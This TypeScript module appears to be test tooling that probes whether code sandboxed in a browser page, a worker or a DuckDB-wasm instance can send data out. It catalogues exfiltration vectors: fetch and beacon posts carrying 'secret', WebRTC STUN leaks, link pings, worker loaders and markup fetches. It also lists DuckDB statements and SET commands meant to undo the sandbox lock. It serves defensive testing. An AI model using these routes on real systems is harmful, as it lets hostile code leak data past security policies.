/**
 * Ways out that code inside a page or a worker could try. Each stands alone, for it is carried into the place where it is tried, and tells what came of it:
 * `refused`, or `not here` where there is no such thing. What it says proves little: a listener outside counts what has come through.
 */
export type Outcome = 'refused' | 'not here' | 'got out';
type Attempt = (address: string) => Promise<Outcome>;

export const EVERYWHERE: Record<string, Attempt> = {
  fetch: (address) =>
    fetch(address, { mode: 'no-cors' }).then(
      () => 'got out',
      () => 'refused',
    ),
  'fetch with a body': (address) =>
    fetch(address, { method: 'POST', body: 'secret', keepalive: true }).then(
      () => 'got out',
      () => 'refused',
    ),
  'fetch of the prototype': (address) => {
    const holder = [self, Object.getPrototypeOf(self), Object.getPrototypeOf(Object.getPrototypeOf(self))].find((one) =>
      Object.hasOwn(one, 'fetch'),
    );
    return (holder as typeof globalThis).fetch.call(self, address, { mode: 'no-cors' }).then(
      () => 'got out',
      () => 'refused',
    );
  },
  XMLHttpRequest: async (address) => {
    if (!('XMLHttpRequest' in self)) return 'not here';
    return new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve('got out');
      request.onerror = () => resolve('refused');
      request.open('GET', address);
      request.send();
    });
  },
  'XMLHttpRequest that waits': async (address) => {
    if (!('XMLHttpRequest' in self)) return 'not here';
    try {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
      return 'got out';
    } catch {
      return 'refused';
    }
  },
  WebSocket: async (address) => {
    if (!self.WebSocket) return 'not here';
    return new Promise((resolve) => {
      try {
        const socket = new WebSocket(address.replace('http', 'ws'));
        socket.onopen = () => resolve('got out');
        socket.onerror = () => resolve('refused');
      } catch {
        resolve('refused');
      }
    });
  },
  EventSource: async (address) => {
    if (!self.EventSource) return 'not here';
    return new Promise((resolve) => {
      const source = new EventSource(address);
      source.onopen = () => resolve('got out');
      source.onerror = () => {
        source.close();
        resolve('refused');
      };
    });
  },
  sendBeacon: async (address) => {
    if (!('sendBeacon' in navigator)) return 'not here';
    // It says that it is sent even where the policy refuses it: what has come through is counted.
    navigator.sendBeacon(address, 'secret');
    return 'refused';
  },
  'cache.add': async (address) => {
    const cache = await caches.open('attempt');
    const outcome = await cache.add(address).then(
      () => 'got out' as const,
      () => 'refused' as const,
    );
    await caches.delete('attempt');
    return outcome;
  },
  importScripts: async (address) => {
    if (!('importScripts' in self)) return 'not here';
    try {
      (self as unknown as WorkerGlobalScope).importScripts(address);
      return 'got out';
    } catch {
      return 'refused';
    }
  },
  'worker from elsewhere': async (address) => {
    if (!('Worker' in self)) return 'not here';
    return new Promise((resolve) => {
      try {
        const worker = new Worker(address);
        worker.onmessage = () => resolve('got out');
        worker.onerror = () => resolve('refused');
      } catch {
        resolve('refused');
      }
    });
  },
  'worker from a data: address': async (address) => {
    if (!('Worker' in self)) return 'not here';
    const script = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' }).then(() => postMessage('got out'), () => postMessage('refused'))`;
    return new Promise((resolve) => {
      try {
        const worker = new Worker(`data:text/javascript,${encodeURIComponent(script)}`);
        worker.onmessage = ({ data }) => resolve(data);
        worker.onerror = () => resolve('refused');
      } catch {
        resolve('refused');
      }
    });
  },
  'worker from a blob: address': async (address) => {
    if (!('Worker' in self)) return 'not here';
    const script = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' }).then(() => postMessage('got out'), () => postMessage('refused'))`;
    const blob = URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    return new Promise((resolve) => {
      const worker = new Worker(blob);
      worker.onmessage = ({ data }) => {
        worker.terminate();
        resolve(data);
      };
      worker.onerror = () => resolve('refused');
    });
  },
};

/** As text, for what stands between here and there would make another thing of it. */
export const importing = (address: string): string =>
  `import(${JSON.stringify(address)}).then(() => 'got out', () => 'refused')`;

/** Of the program's own files started as workers: from its address one would have no policy at a host that sends no headers. */
export const ownFilesAsWorkers = async (addresses: string[]): Promise<Outcome> => {
  if (!('Worker' in self)) return 'not here';
  const started = (address: string) =>
    new Promise<boolean>((resolve) => {
      try {
        const worker = new Worker(address, { type: 'module' });
        worker.onerror = (event) => resolve(event.message !== undefined);
        setTimeout(() => resolve(true), 2000);
      } catch {
        resolve(false);
      }
    });
  return (await Promise.all(addresses.map(started))).includes(true) ? 'got out' : 'refused';
};

/** What only a page has: markup that fetches, with the directive that refuses it. */
export const MARKUP: Record<string, { html: (address: string) => string; refusedBy: string }> = {
  image: { html: (address) => `<img src="${address}" alt="">`, refusedBy: 'img-src' },
  'image of a style': { html: (address) => `<p style="background: url(${address})">.</p>`, refusedBy: 'img-src' },
  'image in SVG': {
    html: (address) => `<svg><image href="${address}" width="9" height="9"/></svg>`,
    refusedBy: 'img-src',
  },
  icon: { html: (address) => `<link rel="icon" href="${address}">`, refusedBy: 'img-src' },
  stylesheet: { html: (address) => `<link rel="stylesheet" href="${address}">`, refusedBy: 'style-src-elem' },
  'style that imports': { html: (address) => `<style>@import url(${address});</style>`, refusedBy: 'style-src-elem' },
  script: { html: (address) => `<script src="${address}"></script>`, refusedBy: 'script-src-elem' },
  'inline script': {
    html: (address) => `<script>fetch(${JSON.stringify(address)})</script>`,
    refusedBy: 'script-src-elem',
  },
  'inline handler': {
    html: (address) => `<img src="no" alt="" onerror="fetch('${address}')">`,
    refusedBy: 'script-src-attr',
  },
  'module fetched ahead': {
    html: (address) => `<link rel="modulepreload" href="${address}">`,
    refusedBy: 'script-src-elem',
  },
  'image fetched ahead': {
    html: (address) => `<link rel="preload" as="image" href="${address}">`,
    refusedBy: 'img-src',
  },
  'page fetched ahead': { html: (address) => `<link rel="prefetch" href="${address}">`, refusedBy: 'default-src' },
  frame: { html: (address) => `<iframe src="${address}"></iframe>`, refusedBy: 'frame-src' },
  object: { html: (address) => `<object data="${address}"></object>`, refusedBy: 'object-src' },
  embed: { html: (address) => `<embed src="${address}">`, refusedBy: 'object-src' },
  video: { html: (address) => `<video src="${address}"></video>`, refusedBy: 'media-src' },
  audio: { html: (address) => `<audio src="${address}" preload="auto"></audio>`, refusedBy: 'media-src' },
  subtitles: { html: (address) => `<video><track default src="${address}"></video>`, refusedBy: 'media-src' },
};

/** Puts it into the page and tells the directives by which it was refused, within a second. */
export const putIn = async (html: string): Promise<string[]> => {
  const directives: string[] = [];
  const told = (event: SecurityPolicyViolationEvent) => directives.push(event.effectiveDirective);
  document.addEventListener('securitypolicyviolation', told);
  const nodes = [...document.createRange().createContextualFragment(html).childNodes];
  document.body.append(...nodes);
  for (let look = 0; look < 20 && directives.length === 0; look += 1)
    await new Promise((resolve) => setTimeout(resolve, 50));
  document.removeEventListener('securitypolicyviolation', told);
  for (const node of nodes) node.remove();
  return directives;
};

/** Ways of the page to go elsewhere, with what it knows in the address. */
export const GOING: Record<string, (address: string) => void> = {
  location: (address) => {
    window.location.href = address;
  },
  'refresh by markup': (address) => {
    document.body.append(
      document.createRange().createContextualFragment(`<meta http-equiv="refresh" content="0; url=${address}">`),
    );
  },
  'link that is pressed': (address) => {
    const link = document.createElement('a');
    link.href = address;
    document.body.append(link);
    link.click();
  },
  'link that tells of the press': (address) => {
    const link = document.createElement('a');
    link.href = '#/privacy';
    link.ping = address;
    document.body.append(link);
    link.click();
  },
  'form that is sent': (address) => {
    const form = document.createElement('form');
    form.action = address;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'open in its own place': (address) => {
    window.open(address, '_self');
  },
};

/** What no policy that a page can give itself refuses in Chromium; each has its time to come through. */
export const UNREFUSED: Record<string, (given: { address: string; packets: string }) => Promise<void>> = {
  'a new tab': async ({ address }) => {
    const tab = window.open(address);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    tab?.close();
  },
  'a connection between browsers': async ({ packets }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${packets}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
    connection.close();
  },
};

/** Statements that would have DuckDB reach an address. */
export const statements = (address: string): string[] => [
  `SELECT * FROM read_csv('${address}/a.csv')`,
  `SELECT * FROM read_text('${address}/a.txt')`,
  `SELECT * FROM read_blob('${address}/a.bin')`,
  `SELECT * FROM read_parquet('${address}/a.parquet')`,
  `SELECT * FROM read_json('${address}/a.json')`,
  `SELECT * FROM '${address}/a.csv'`,
  `SELECT * FROM glob('${address}/*')`,
  `COPY (SELECT 'secret') TO '${address}/out.csv'`,
  `CREATE OR REPLACE TABLE got (a INT); COPY got FROM '${address}/in.csv'`,
  `ATTACH '${address}/a.db'`,
  `ATTACH '${address}/a.db' AS got (READ_ONLY)`,
  `EXPORT DATABASE '${address}/all'`,
  `IMPORT DATABASE '${address}/all'`,
  // In this build INSTALL does nothing: what is loaded is fetched then.
  `INSTALL httpfs FROM '${address}'; LOAD httpfs`,
  `INSTALL spatial FROM community; LOAD spatial`,
  `LOAD '${address}/own.duckdb_extension.wasm'`,
  ...['icu', 'json', 'parquet', 'sqlite_scanner'].map((extension) => `LOAD ${extension}`),
];

/** Settings that would undo the lock, or part of it. */
export const UNLOCKING = [
  "SET custom_extension_repository='http://localhost'",
  'SET enable_external_access=true',
  'SET lock_configuration=false',
  'RESET lock_configuration',
  'SET autoload_known_extensions=true',
  'SET autoinstall_known_extensions=true',
  'SET allow_community_extensions=true',
  'SET allow_unsigned_extensions=true',
  "SET allowed_directories=['http://']",
  "SET extension_directory='/'",
];

/**
 * Asks DuckDB from inside its own worker, by its own messages, and tells what it answers: the words of a refusal, or null. `begin`: a database that
 * nobody has locked takes the place of the one there; `named`: an address is given the name of a file that the lock lets through.
 */
export const askInWorker = async (given: {
  statements: string[];
  begin?: boolean;
  named?: { name: string; address: string };
}): Promise<(string | null)[]> => {
  type Answer = { requestId: number; type: string; data: unknown };
  const worker = self as unknown as {
    onmessage(event: { data: object }): void;
    postMessage(answer: Answer, transfer: Transferable[]): void;
  };
  const post = worker.postMessage;
  let next = 1_000_000;
  const ask = (type: string, data: unknown) =>
    new Promise<Answer>((resolve) => {
      const messageId = next++;
      worker.postMessage = (answer, transfer) =>
        answer.requestId === messageId ? resolve(answer) : post.call(self, answer, transfer);
      worker.onmessage({ data: { messageId, type, data } });
    });
  if (given.begin) await ask('OPEN', { path: ':memory:', allowUnsignedExtensions: true });
  if (given.named) await ask('REGISTER_FILE_URL', [given.named.name, given.named.address, 4, true]);
  const connection = (await ask('CONNECT', null)).data;
  const answers: (string | null)[] = [];
  for (const statement of given.statements) {
    const { type, data } = await ask('RUN_QUERY', [connection, statement]);
    answers.push(type === 'ERROR' ? (data as Error).message : null);
  }
  worker.postMessage = post;
  return answers;
};
